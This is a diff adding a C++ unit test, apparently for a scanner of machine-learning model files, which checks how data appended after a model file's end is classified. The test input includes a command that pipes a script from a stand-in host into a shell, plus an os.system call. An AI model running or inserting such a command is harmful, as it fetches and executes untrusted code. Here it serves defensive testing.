@@ -250,3 +250,15 @@ CUPEL_TEST(the_filler_of_members_is_looked_at)
     CHECK(rules(judged) == std::set<std::string>{"CUP-ZIP-OUTSIDE"});
     CHECK(isLeftover(judged, at));
 }
+
+// What follows the end is told as that, and not once more as words of the metadata.
+CUPEL_TEST(leftover_is_no_metadata)
+{
+    for (const std::string name : {"gguf-0.19.0/llama.gguf", "xgboost-3.0.5/model.ubj"}) {
+        const auto path = frameworks + name;
+        const auto bytes = test::readFile(path).value_or("");
+        const auto judged = rules(analysis(bytes + "curl http://files.example/a.sh | sh  # os.system('id')", path));
+        CHECK(!judged.empty());
+        CHECK(!judged.contains("CUP-MODEL-CODE-TEXT"));
+    }
+}
